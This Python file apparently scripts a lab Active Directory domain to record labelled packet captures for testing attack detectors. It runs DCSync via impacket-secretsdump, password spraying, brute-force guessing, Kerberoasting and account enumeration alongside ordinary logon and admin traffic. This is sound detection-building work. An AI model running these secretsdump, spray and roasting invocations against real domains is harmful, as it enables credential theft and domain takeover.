"""scenarios - what is played in the laboratory, what must be found in it, and what tshark must see in the capture.

`expected` is the ground truth by the names of the detection catalogue. `checks` are (what it means, tshark display
filter, least, most or None): a capture that does not hold what its scenario promises is refused.
"""
import collections
import datetime
import json
import os
import random
import subprocess
import sys
import time

import lab as laboratory
from directory import (ADMIN, ADMIN_PASSWORD, DISABLED, DNS_DOMAIN, DOMAIN, HOSTS, MUST_CHANGE, NEW_PASSWORD, REALM,
                       SERVICES, SPRAY_PASSWORD, SPRAY_VICTIM, USERS)
from lab import HERE, KRB5_CONF, MEMBER_CONF, STRANGER_CONF, LabError

DC1, DC1_NAME = HOSTS["dc1"], "dc1." + DNS_DOMAIN
WS1, WS2, ATTACKER = HOSTS["ws1"], HOSTS["ws2"], HOSTS["attacker"]
FRAMES_LISTED = 60
CAPTURE_BYTES_MAX = 900000
# Captures beside which the domain's keys are kept: see sealed.py.
WITH_KEYS = ["sealed_ldap", "sealed_smb", "sealed_rpc", "silver_ticket"]
# What must be told of these beside what is expected without keys.
EXPECTED_WITH_KEYS = {"silver_ticket": [
    {"detection": "silver-ticket", "source_ip": "10.77.0.66", "account": None,
     "targets": ["cifs/dc1.lab.orthrus.example"], "outcome": "failure"}]}
IMPACKET = "/usr/share/doc/python3-impacket/examples"

SPRAYED = [u for u in USERS if u not in (DISABLED, MUST_CHANGE, "adm-keller", "wwang", "xxavier")]
BRUTE_VICTIM = "mweber"
GUESSES = ["Sunflower%d" % n for n in range(10)] + ["Summer20%02d" % n for n in range(15, 25)] + [
    "password", "letmein", "Welcome1", "qwertz", "Mia1990"]
ROASTER = "ijansen"
STRANGE_NAMES = """admin root test guest1 backup oracle svc_sql sqlservice jsmith jdoe asmith mjones bwilson kbrown
dtaylor pmiller sdavis rgarcia lmoore cwhite hthompson nlee tclark vlewis yhall zallen scanner printer helpdesk
reception marketing webmaster""".split()
KNOWN_NAMES = ["abecker", "hito", "klarsen", "mweber", "nnovak", "ssmith", "ttanaka", "wwang"]

Scenario = collections.namedtuple("Scenario", "title tool play attack happened expected others checks before")
SCENARIOS = {}


def scenario(title, tool, happened, checks, expected=(), others=(), before=lambda lab: None):
    """Adds a scenario; `before` is done ahead of the capture."""
    def add(play):
        SCENARIOS[play.__name__] = Scenario(title, tool, play, bool(expected), happened, list(expected),
                                            list(others), checks, before)
        return play
    return add


def finding(detection, source_ip, account, targets, outcome, **more):
    return dict(detection=detection, source_ip=source_ip, account=account, targets=list(targets), outcome=outcome,
                **more)


def must_hold(output, text, what):
    if text not in output:
        raise LabError("%s: no '%s' in: %s" % (what, text, " / ".join(output.strip().splitlines()[-4:])))


def pause(least=0.2, most=0.8):
    time.sleep(random.uniform(least, most))


def attack(lab, *arguments):
    return lab.attacker.run(["/usr/bin/python3", os.path.join(HERE, "attack.py")] + list(arguments))


def impacket(lab, tool, *arguments, **options):
    """Runs one of impacket's tools; with -no-pass it finds its ticket where kinit left it."""
    cache = [] if "-no-pass" in arguments else ["env", "-u", "KRB5CCNAME"]
    return lab.attacker.run(cache + ["/usr/bin/python3", os.path.join(HERE, "attack.py"), "tool",
                                     os.path.join(IMPACKET, tool + ".py")] + list(arguments), **options)


def answers(output):
    return collections.Counter(line.rsplit(": ", 1)[1] for line in output.splitlines() if ": " in line)


# --- checks that several scenarios share

GET_CHANGES = "drsuapi && dcerpc.opnum == 3 && dcerpc.pkt_type == 0"
REPLICATION_BIND = "drsuapi && dcerpc.opnum == 0 && dcerpc.pkt_type == 0"
NO_REPLICATION = ("no replication (DRSUAPI GetNCChanges)", GET_CHANGES, 0, 0)
AS_FAILED = "kerberos.msg_type == 30 && kerberos.error_code == 24"
AS_UNKNOWN = "kerberos.msg_type == 30 && kerberos.error_code == 6"
AS_REQUIRED = "kerberos.msg_type == 30 && kerberos.error_code == 25"
AS_REP = "kerberos.msg_type == 11"
TGS_REP = "kerberos.msg_type == 13"
RC4_TICKET, AES_TICKET = "ticket etype 23", "ticket etype 18"  # see frames_of
SMB_REFUSED = "smb2.cmd == 1 && smb2.nt_status == 0xc000006d"
SMB_ACCEPTED = "smb2.cmd == 1 && smb2.flags.response == 1 && smb2.nt_status == 0"


# --- replication by who is no domain controller

@scenario("krbtgt replicated by NTLM", "impacket-secretsdump",
          "secretsdump asks dc1 over DRSUAPI for krbtgt's secrets, logged on by NTLM as the domain's Administrator; "
          "it gets them.",
          [("DRSBind requests", REPLICATION_BIND, 1, None), ("GetNCChanges requests", GET_CHANGES, 1, 4),
           ("DRSUAPI faults", "drsuapi && dcerpc.pkt_type == 3", 0, 0),
           ("NTLM AUTHENTICATE as Administrator", 'ntlmssp.auth.username == "Administrator"', 1, None)],
          [finding("dcsync", ATTACKER, ADMIN, ["krbtgt"], "success")])
def dcsync_ntlm(lab):
    out = impacket(lab, "secretsdump", "-just-dc-user", DOMAIN + "/krbtgt",
                   "%s/%s:%s@%s" % (DOMAIN, ADMIN, ADMIN_PASSWORD, DC1))
    must_hold(out, "krbtgt:502:", "secretsdump")


@scenario("krbtgt replicated by Kerberos", "kinit (MIT krb5), impacket-secretsdump -k",
          "kinit takes a ticket as Administrator, secretsdump -k replicates krbtgt's secrets with it; no NTLM.",
          [("AS-REP", AS_REP, 1, None), ("TGS-REP", TGS_REP, 1, None), ("DRSBind requests", REPLICATION_BIND, 1, None),
           ("GetNCChanges requests", GET_CHANGES, 1, 4), ("NTLM AUTHENTICATE", "ntlmssp.messagetype == 3", 0, 0)],
          [finding("dcsync", ATTACKER, ADMIN, ["krbtgt"], "success")])
def dcsync_kerberos(lab):
    # getTGT cannot read Heimdal's AS-REP, which leaves out the optional start time.
    lab.attacker.run(["kinit", "-f", "-r", "1d", ADMIN], ADMIN_PASSWORD + "\n")
    out = impacket(lab, "secretsdump", "-k", "-no-pass", "-just-dc-user", DOMAIN + "/krbtgt", "-dc-ip", DC1,
                   "-target-ip", DC1, "%s/%s@%s" % (REALM, ADMIN, DC1_NAME))
    must_hold(out, "krbtgt:502:", "secretsdump -k")


@scenario("replication refused to a plain user", "impacket-secretsdump",
          "secretsdump asks for krbtgt's secrets as bdiaz, a plain user; the domain controller refuses.",
          [("GetNCChanges requests", GET_CHANGES, 1, None),
           ("NTLM AUTHENTICATE as bdiaz", 'ntlmssp.auth.username == "bdiaz"', 1, None)],
          [finding("dcsync", ATTACKER, "bdiaz", ["krbtgt"], "failure")])
def dcsync_denied(lab):
    out = impacket(lab, "secretsdump", "-just-dc-user", DOMAIN + "/krbtgt",
                   "%s/bdiaz:%s@%s" % (DOMAIN, USERS["bdiaz"][3], DC1), ok=None)
    if "krbtgt:502:" in out:
        raise LabError("a plain user was allowed to replicate")


# --- guessing passwords

@scenario("one password over %d accounts by Kerberos" % len(SPRAYED), "attack.py (impacket getKerberosTGT)",
          "One password is tried on %d accounts by Kerberos pre-authentication over TCP; it is %s's."
          % (len(SPRAYED), SPRAY_VICTIM),
          [("KDC_ERR_PREAUTH_FAILED", AS_FAILED, len(SPRAYED) - 1, len(SPRAYED) - 1), ("AS-REP", AS_REP, 1, 1)],
          [finding("password-spray", ATTACKER, None, SPRAYED, "success", succeeded=[SPRAY_VICTIM])])
def spray_kerberos(lab):
    out = attack(lab, "spray-kerberos", DC1, REALM, SPRAY_PASSWORD, *SPRAYED)
    must_hold(out, SPRAY_VICTIM + ": ticket", "spray")


@scenario("one password over %d accounts by NTLM" % len(SPRAYED), "attack.py (impacket SMBConnection)",
          "One password is tried on %d accounts by SMB session setups with NTLM; it is %s's."
          % (len(SPRAYED), SPRAY_VICTIM),
          [("STATUS_LOGON_FAILURE", SMB_REFUSED, len(SPRAYED) - 1, len(SPRAYED) - 1),
           ("session set up", SMB_ACCEPTED, 1, 1)],
          [finding("password-spray", ATTACKER, None, SPRAYED, "success", succeeded=[SPRAY_VICTIM])])
def spray_smb_ntlm(lab):
    out = attack(lab, "spray-smb", DC1, DOMAIN, SPRAY_PASSWORD, *SPRAYED)
    must_hold(out, SPRAY_VICTIM + ": logged on", "spray")


@scenario("one account's password guessed by Kerberos", "attack.py (impacket getKerberosTGT)",
          "%d wrong passwords for %s by Kerberos pre-authentication over TCP, then the right one."
          % (len(GUESSES), BRUTE_VICTIM),
          [("KDC_ERR_PREAUTH_FAILED", AS_FAILED, len(GUESSES), len(GUESSES)), ("AS-REP", AS_REP, 1, 1)],
          [finding("brute-force", ATTACKER, None, [BRUTE_VICTIM], "success", succeeded=[BRUTE_VICTIM])])
def brute_kerberos(lab):
    out = attack(lab, "brute-kerberos", DC1, REALM, BRUTE_VICTIM, *GUESSES, USERS[BRUTE_VICTIM][3])
    must_hold(out, "ticket", "brute force")


@scenario("one account's password not guessed", "kinit (MIT krb5)",
          "%d wrong passwords for %s by kinit over UDP; none is right." % (len(GUESSES), "ttanaka"),
          [("KDC_ERR_PREAUTH_FAILED", AS_FAILED, len(GUESSES), len(GUESSES)), ("AS-REP", AS_REP, 0, 0)],
          [finding("brute-force", ATTACKER, None, ["ttanaka"], "failure")])
def brute_kerberos_fail(lab):
    for guess in GUESSES:
        lab.attacker.run(["kinit", "ttanaka"], guess + "\n", ok=(1,))
        time.sleep(0.1)


@scenario("one account's password guessed by NTLM", "attack.py (impacket SMBConnection)",
          "%d wrong passwords for %s by SMB session setups with NTLM, then the right one."
          % (len(GUESSES), BRUTE_VICTIM),
          [("STATUS_LOGON_FAILURE", SMB_REFUSED, len(GUESSES), len(GUESSES)), ("session set up", SMB_ACCEPTED, 1, 1)],
          [finding("brute-force", ATTACKER, None, [BRUTE_VICTIM], "success", succeeded=[BRUTE_VICTIM])])
def brute_ntlm_smb(lab):
    out = attack(lab, "brute-smb", DC1, DOMAIN, BRUTE_VICTIM, *GUESSES, USERS[BRUTE_VICTIM][3])
    must_hold(out, "logged on", "brute force")


# --- tickets for service accounts

@scenario("RC4 tickets for service accounts", "impacket-GetUserSPNs -k, attack.py (impacket getKerberosTGS)",
          "As ijansen, GetUserSPNs searches the accounts with SPNs over LDAP (Kerberos, unsealed); then a TGT by RC4 and "
          "for each account a ticket, RC4 asked first. Four answer with RC4 tickets, svc-scan (AES and RC4) with AES, "
          "svc-mail (AES only) with KDC_ERR_ETYPE_NOSUPP.",
          [("LDAP search for servicePrincipalName", 'ldap.attributeDesc == "servicePrincipalName" || '
            'ldap.present == "servicePrincipalName"', 1, None),
           ("RC4 tickets", RC4_TICKET, 4, 4), ("AES256 tickets", AES_TICKET, 2, 2),
           ("KDC_ERR_ETYPE_NOSUPP", "kerberos.error_code == 14", 1, 1)],
          [finding("kerberoasting", ATTACKER, ROASTER, list(SERVICES), "success")],
          ["ldap-attribute-reconnaissance", "overpass-the-hash"])
def kerberoast(lab):
    out = impacket(lab, "GetUserSPNs", "-k", "-dc-ip", DC1, "%s/%s:%s" % (REALM, ROASTER, USERS[ROASTER][3]))
    found = [line.split()[:2] for line in out.splitlines() if " svc-" in line]
    if {account for _, account in found} != set(SERVICES):
        raise LabError("GetUserSPNs: found %s" % found)
    spns = {account: spn for spn, account in found}
    out = attack(lab, "roast", DC1, REALM, ROASTER, USERS[ROASTER][3], *spns.values())
    must_hold(out, "ticket, etype 23", "roasting")


def harden_services(lab):
    for name in SERVICES:
        lab.dc1.run(["net", "ads", "enctypes", "set", name, "24", "-U", "%s%%%s" % (ADMIN, ADMIN_PASSWORD)])


@scenario("many service tickets, AES only", "kinit, kvno (MIT krb5)",
          "All service accounts are set to AES only. As ijansen, tickets for every service principal of every service "
          "account and two of dc1's own within a second; nothing but AES256 is asked and given, no search before it.",
          [("AES256 tickets", AES_TICKET, 11, 11), ("RC4 tickets", RC4_TICKET, 0, 0),
           ("TGS-REQ that offers RC4", "kerberos.msg_type == 12 && kerberos.ENCTYPE == 23", 0, 0)],
          [finding("kerberoasting", ATTACKER, ROASTER, list(SERVICES), "success")], before=harden_services)
def kerberoast_aes_many(lab):
    lab.attacker.run(["kinit", ROASTER], USERS[ROASTER][3] + "\n")
    spns = [spn for names, _, _ in SERVICES.values() for spn in names]
    lab.attacker.run(["kvno", "-e", "aes256-cts-hmac-sha1-96"] + spns + ["host/" + DC1_NAME, "cifs/" + DC1_NAME])


# --- which names exist

@scenario("which of 40 names exist", "attack.py (AS-REQ without pre-authentication)",
          "AS-REQ without pre-authentication for 40 names over UDP; 8 exist.",
          [("KDC_ERR_C_PRINCIPAL_UNKNOWN", AS_UNKNOWN, 32, 32), ("KDC_ERR_PREAUTH_REQUIRED", AS_REQUIRED, 8, 8)],
          [finding("account-enumeration", ATTACKER, None, KNOWN_NAMES, "success", tried=40)])
def enumeration_kerberos(lab):
    names = STRANGE_NAMES + KNOWN_NAMES
    random.shuffle(names)
    seen = answers(attack(lab, "enumerate", DC1, REALM, *names))
    if seen["KDC_ERR_PREAUTH_REQUIRED"] != len(KNOWN_NAMES):
        raise LabError("enumeration found %s" % dict(seen))


# --- ordinary days

def join(lab, name):
    """Joins a workstation to the domain unless it is in it."""
    host = lab.hosts[name]
    if "Join is OK" not in host.run(["net", "ads", "testjoin"], ok=None):
        host.run(["net", "ads", "join", "--no-dns-updates", "-U", "%s%%%s" % (ADMIN, ADMIN_PASSWORD)])


def start_winbind(lab, name):
    join(lab, name)
    if name not in lab.daemons:
        lab.daemons[name] = lab.hosts[name].start(["winbindd", "--foreground", "--no-process-group"], "winbindd.log")
        laboratory.wait_for("winbindd on " + name, lambda: "succeeded" in lab.hosts[name].run(
            ["wbinfo", "-p"], ok=None), lab.daemons[name])


def start_workstations(lab):
    for name in ("ws1", "ws2"):
        start_winbind(lab, name)


def log_on(lab, name, user, password=None, ok=(0,)):
    """A user sits down: winbind takes tickets for him and for this machine, as at a logon screen."""
    return lab.hosts[name].run(["wbinfo", "--krb5auth=%s\\%s%%%s" % (DOMAIN, user, password or USERS[user][3])], ok=ok)


def ticket(lab, name, user, password=None, ok=(0,)):
    return lab.hosts[name].run(["kinit", user], (password or USERS[user][3]) + "\n", ok)


def share(lab, name, commands):
    return lab.hosts[name].run(["smbclient", "//%s/files" % DC1_NAME, "--use-kerberos=required", "-c", commands])


@scenario("a morning: people log on and work", "winbind, kinit, kvno, smbclient, rpcclient, ldapsearch",
          "Eight people log on at two joined workstations and use the share, the directory and SAM names. One mistypes "
          "his password, one her name, one changes an expired password, one account is disabled, one person uses NTLM.",
          [("AS-REP", AS_REP, 7, None), ("TGS-REP", TGS_REP, 7, None),
           ("KDC_ERR_PREAUTH_FAILED", AS_FAILED, 1, 2), ("KDC_ERR_C_PRINCIPAL_UNKNOWN", AS_UNKNOWN, 1, 2),
           ("KDC_ERR_KEY_EXPIRED", "kerberos.error_code == 23", 1, None),
           ("KDC_ERR_CLIENT_REVOKED", "kerberos.error_code == 18", 1, None),
           ("tree connect", "smb2.cmd == 3 && smb2.flags.response == 1 && smb2.nt_status == 0", 3, None),
           NO_REPLICATION], before=start_workstations)
def morning_logon(lab):
    log_on(lab, "ws1", "abecker")
    ticket(lab, "ws1", "abecker")
    share(lab, "ws1", "ls; get budget-2026.txt /dev/null")
    pause()
    log_on(lab, "ws2", "hito")
    ticket(lab, "ws2", "hito")
    lab.ws2.run(["ldapsearch", "-N", "-Q", "-Y", "GSSAPI", "-H", "ldap://" + DC1_NAME, "-b",
                 "OU=People,DC=lab,DC=orthrus,DC=example", "(sAMAccountName=nnovak)", "mail", "department"])
    pause()
    ticket(lab, "ws1", "cevans", "Willow-Gate-31", ok=(1,))
    pause(1, 2)
    ticket(lab, "ws1", "cevans")
    lab.ws1.run(["kvno", "cifs/" + DC1_NAME, "HTTP/intranet." + DNS_DOMAIN])
    share(lab, "ws1", "ls")
    pause()
    ticket(lab, "ws2", "klarsne", "North-Light-21", ok=(1,))
    pause(1, 2)
    log_on(lab, "ws2", "klarsen")
    ticket(lab, "ws2", "klarsen")
    lab.ws2.run(["rpcclient", "--use-kerberos=required", DC1_NAME, "-c",
                 "lookupnames klarsen Engineering; getusername"])
    pause()
    must_hold(ticket(lab, "ws1", MUST_CHANGE, "\n".join([USERS[MUST_CHANGE][3], NEW_PASSWORD, NEW_PASSWORD])),
              "expired", "kinit with an expired password")
    share(lab, "ws1", "ls; put /etc/hosts notes.txt; rm notes.txt")
    pause()
    ticket(lab, "ws2", DISABLED, ok=(1,))
    pause()
    lab.ws1.run(["smbclient", "//%s/files" % DC1, "--use-kerberos=off", "-U",
                 "%s/ssmith%%%s" % (DOMAIN, USERS["ssmith"][3]), "-c", "ls"])
    pause()
    log_on(lab, "ws2", "wwang")
    ticket(lab, "ws2", "wwang")
    lab.ws2.run(["kvno", "HTTP/intranet." + DNS_DOMAIN, "MSSQLSvc/sql1.%s:1433" % DNS_DOMAIN])



TERMINAL_USERS = [u for u in USERS if u not in (DISABLED, MUST_CHANGE, "adm-keller")]
TYPING_SLIPS = ("dfontaine", "oobrien", "xxavier")


@scenario("a terminal server: %d people from one address" % len(TERMINAL_USERS), "kinit, smbclient, winbind",
          "%d people log on at one host within a minute and open the share; three mistype their password once and then "
          "succeed. Many accounts from one address, few failures." % len(TERMINAL_USERS),
          [("KDC_ERR_PREAUTH_FAILED", AS_FAILED, 3, 6), ("AS-REP", AS_REP, len(TERMINAL_USERS), None), NO_REPLICATION],
          before=start_workstations)
def terminal_server(lab):
    for user in TERMINAL_USERS:
        if user in TYPING_SLIPS:
            ticket(lab, "ws2", user, USERS[user][3] + "+", ok=(1,))
            pause(0.8, 1.5)
        ticket(lab, "ws2", user)
        if user[0] in "aeimqu":
            share(lab, "ws2", "ls")
        pause(0.3, 1.2)


def forget_membership(lab):
    """So that the join is one from nothing, whatever was recorded before."""
    if "ws1" in lab.daemons:
        lab.stop("ws1")
    lab.ws1.run(["net", "ads", "leave", "-U", "%s%%%s" % (ADMIN, ADMIN_PASSWORD)], ok=None)


@scenario("a workstation joins", "net ads join, winbind, wbinfo",
          "ws1 joins the domain with adm-keller's password (CLDAP, Kerberos, LDAP, SAMR), tests the join, starts winbind "
          "and checks its secret.",
          [("CLDAP", "cldap", 1, None), ("AS-REP", AS_REP, 1, None),
           ("LDAP or sealed LDAP", "tcp.port == 389", 20, None),
           NO_REPLICATION],
          before=forget_membership)
def machine_join(lab):
    lab.ws1.run(["net", "ads", "join", "-U", "adm-keller%" + USERS["adm-keller"][3]])
    must_hold(lab.ws1.run(["net", "ads", "testjoin"]), "Join is OK", "net ads testjoin")
    start_winbind(lab, "ws1")
    lab.ws1.run(["wbinfo", "-t"])


@scenario("an administrator's hour", "samba-tool, net, rpcclient, smbclient, ldapsearch",
          "From ws2, adm-keller lists users and groups over SAMR and LDAP, makes and deletes an account, resets a password, "
          "lists services and shares, reads sysvol and asks the replication state (DRSUAPI without GetNCChanges). "
          "Administrator mistypes the password once and looks at the share by NTLM.",
          [("SAMR", "samr", 1, None), ("service control", "svcctl", 1, None),
           ("DRSBind requests", REPLICATION_BIND, 1, None),
           ("STATUS_LOGON_FAILURE", SMB_REFUSED, 1, 1), NO_REPLICATION],
          others=["samr-enumeration", "ldap-reconnaissance", "remote-password-reset", "share-enumeration"],
          before=start_workstations)
def admin_work(lab):
    ticket(lab, "ws2", "adm-keller")
    kerberos = "--use-kerberos=required"
    lab.ws2.run(["rpcclient", kerberos, DC1_NAME, "-c", "querydominfo; enumdomusers; enumdomgroups; queryuser 500"])
    pause()
    lab.ws2.run(["net", "rpc", "service", "list", kerberos, "-S", DC1_NAME])
    lab.ws2.run(["net", "rpc", "share", "list", kerberos, "-S", DC1_NAME])
    pause()
    ldap = ["-H", "ldap://" + DC1_NAME, kerberos]
    lab.ws2.run(["samba-tool", "user", "create", "temp-visitor", "Visitor-Badge-77"] + ldap)
    lab.ws2.run(["samba-tool", "group", "addmembers", "Support", "temp-visitor"] + ldap)
    pause()
    lab.ws2.run(["samba-tool", "user", "setpassword", "temp-visitor", "--newpassword=Visitor-Badge-78"] + ldap)
    lab.ws2.run(["samba-tool", "user", "list"] + ldap)
    lab.ws2.run(["samba-tool", "user", "delete", "temp-visitor"] + ldap)
    pause()
    lab.ws2.run(["smbclient", "//%s/sysvol" % DC1_NAME, kerberos, "-c", "cd %s; ls; cd Policies; ls" % DNS_DOMAIN])
    lab.ws2.run(["samba-tool", "drs", "showrepl", DC1_NAME, kerberos])
    pause()
    for password, ok in (("Watchdog-of-2-Head", (1,)), (ADMIN_PASSWORD, (0,))):
        lab.ws2.run(["smbclient", "//%s/files" % DC1, "--use-kerberos=off", "-U",
                     "%s/%s%%%s" % (DOMAIN, ADMIN, password), "-c", "ls"], ok=ok)
        pause(1, 2)


@scenario("a service with a stale password", "kinit, smbclient",
          "On ws2 a job logs on as svc-backup each %d s with a password that was changed: four failures, then its "
          "owner sets the right one and it works." % 25,
          [("KDC_ERR_PREAUTH_FAILED", AS_FAILED, 4, 4), ("AS-REP", AS_REP, 1, 1), NO_REPLICATION],
          before=start_workstations)
def service_retry(lab):
    for _ in range(4):
        ticket(lab, "ws2", "svc-backup", "Backup-Autumn-2020", ok=(1,))
        time.sleep(25)
    ticket(lab, "ws2", "svc-backup", SERVICES["svc-backup"][2])
    share(lab, "ws2", "put /etc/hosts nightly.txt; rm nightly.txt")


PROMOTE = ["samba-tool", "domain", "join", DNS_DOMAIN, "DC", "-U%s%%%s" % (ADMIN, ADMIN_PASSWORD),
           "--dns-backend=SAMBA_INTERNAL", "--option=interfaces=lo eth0", "--option=bind interfaces only=yes"]


def add_dc2(lab):
    lab.add("dc2", None)


def promote_dc2(lab):
    if "dc2" not in lab.hosts:
        add_dc2(lab)
        lab.dc2.run(PROMOTE)


@scenario("a second domain controller joins", "samba-tool domain join DC",
          "dc2 is promoted with Administrator's password: it makes its objects (LDAP, DRSAddEntry), then takes the "
          "directory's partitions by GetNCChanges, still as Administrator. Legitimate, though it begins before dc2 is "
          "known as a domain controller. The capture ends early, within the schema partition: the whole is 10 MB.",
          [("GetNCChanges requests", GET_CHANGES, 1, None),
           ("DRSAddEntry requests", "drsuapi && dcerpc.opnum == 17 && dcerpc.pkt_type == 0", 1, None)],
          others=["domain-controller-added"], before=add_dc2)
def dc_join(lab):
    lab.dc2.run(PROMOTE)


@scenario("two domain controllers replicate", "samba",
          "dc2, promoted before, starts; dc1 and dc2 replicate with each other as DC1$ and DC2$ (Kerberos), an account is "
          "made on dc1 and a password set on dc2.",
          [("GetNCChanges requests", GET_CHANGES, 5, None),
           ("GetNCChanges requests of dc2", GET_CHANGES + " && ip.src == " + HOSTS["dc2"], 2, None)],
          before=promote_dc2)
def dc_replication(lab):
    lab.start_dc("dc2")
    lab.dc1.run(["samba-tool", "user", "create", "new-starter", "First-Day-40"])
    time.sleep(12)
    lab.dc2.run(["samba-tool", "user", "setpassword", "nnovak", "--newpassword=Castle-Bridge-41"])
    time.sleep(8)


# --- the run

def tool_versions():
    wanted = ["samba", "python3-impacket", "krb5-user", "ldap-utils", "smbclient", "winbind", "tcpdump", "tshark"]
    lines = laboratory.run(["dpkg-query", "-W", "-f", "${Package} ${Version}\n"] + wanted).splitlines()
    return dict(line.split() for line in lines)


def frames_of(path, display_filter):
    if display_filter in (RC4_TICKET, AES_TICKET):
        # A TGS-REP's last two etypes are those of its ticket and of its own sealed part.
        out = laboratory.run(["sh", "-c", 'tshark -n -r "$0" -Y "kerberos.msg_type == 13" -T fields '
                              "-e frame.number -e kerberos.etype 2>/dev/null", path])
        rows = [line.split("\t") for line in out.splitlines()]
        return [int(frame) for frame, etypes in rows if etypes.split(",")[-2] == display_filter.split()[-1]]
    out = laboratory.run(["sh", "-c", 'tshark -n -r "$0" -Y "$1" -T fields -e frame.number 2>/dev/null', path,
                          display_filter])
    return [int(n) for n in out.split()]


def check(path, checks):
    shown, wrong = [], []
    for means, display_filter, least, most in checks:
        frames = frames_of(path, display_filter)
        shown.append({"means": means, "filter": display_filter, "count": len(frames),
                      "frames": frames[:FRAMES_LISTED]})
        if len(frames) < least or (most is not None and len(frames) > most):
            wrong.append("%s: %d, not %s to %s" % (means, len(frames), least, "any" if most is None else most))
    return shown, wrong


def now():
    return datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="microseconds").replace("+00:00", "Z")


def record_one(lab, name, out, versions):
    item = SCENARIOS[name]
    item.before(lab)
    for host in lab.hosts.values():
        host.run(["kdestroy", "-q"], ok=None)
    path = os.path.join(lab.work, name + ".pcap")
    with laboratory.Capture(lab.dc1, path):
        start = now()
        item.play(lab)
        end = now()
    whole = laboratory.cut(path, CAPTURE_BYTES_MAX)
    shown, wrong = check(path, item.checks)
    truth = {"scenario": name, "tool": item.tool, "versions": versions, "what happened": item.happened,
             "attack": item.attack, "expected": item.expected, "others": item.others, "start": start, "end": end,
             "domain_controllers": [DC1], "bytes_before_cut": whole, "tshark": shown}
    if name in EXPECTED_WITH_KEYS:
        truth["expected_with_keys"] = EXPECTED_WITH_KEYS[name]
    if name == "dc_replication":
        truth["domain_controllers"].append(HOSTS["dc2"])
    if wrong:
        raise LabError("%s: the capture does not hold what it should: %s" % (name, "; ".join(wrong)))
    with open(path + ".json", "w") as text:
        json.dump(truth, text, indent=1)
        text.write("\n")
    if name in WITH_KEYS:
        lab.dc1.run(["samba-tool", "domain", "exportkeytab", path + ".keytab"])
        laboratory.keep(path + ".keytab", os.path.join(out, name + ".keytab"))
    laboratory.keep(path, os.path.join(out, name + ".pcap"))
    laboratory.keep(path + ".json", os.path.join(out, name + ".json"))
    print("%-22s %6d bytes  %s" % (name, os.path.getsize(path), ", ".join(
        "%s %d" % (s["means"], s["count"]) for s in shown)), flush=True)


def verify_all(out, names):
    """Asks tshark again whether recorded captures hold what their ground truth says; returns the exit code."""
    failed = 0
    for name in names:
        path = os.path.join(out, name)
        try:
            with open(path + ".json") as text:
                truth = json.load(text)
            shown, wrong = check(path + ".pcap", SCENARIOS[name].checks)
            if not wrong and shown != truth["tshark"]:
                wrong = ["tshark shows other frames than the ground truth lists"]
        except (OSError, ValueError, LabError) as error:
            wrong = [str(error)]
        failed += bool(wrong)
        print("%-22s %s" % (name, "; ".join(wrong) or "as recorded"))
    return 1 if failed else 0


def record_all(work, out, names, shell=None):
    """Builds the domain and records the scenarios named; returns the exit code."""
    random.seed(7)
    failed = []
    try:
        laboratory.run(["mount", "--make-rprivate", "/"])
        lab = laboratory.Lab(work)
        print("making the domain", flush=True)
        inventory = os.path.join(work, "inventory.json")
        lab.provision(inventory)
        laboratory.keep(inventory, os.path.join(out, "inventory.json"))
        for name in ("ws1", "ws2"):
            lab.add(name, MEMBER_CONF)
        lab.add("attacker", STRANGER_CONF)
        lab.attacker.write("krb5.conf", KRB5_CONF.format(realm=REALM, folder=lab.attacker.folder) +
                           "[realms]\n %s = {\n  kdc = %s\n }\n" % (REALM, DC1))
        versions = tool_versions()
    except LabError as error:
        print("record: %s" % error, file=sys.stderr)
        return 1
    if shell:
        return subprocess.call(lab.hosts[shell].command(["bash"]), env=lab.hosts[shell].environment)
    for name in names:
        try:
            record_one(lab, name, out, versions)
        except LabError as error:
            print("record: %s: %s" % (name, error), file=sys.stderr, flush=True)
            failed.append(name)
    return 1 if failed else 0
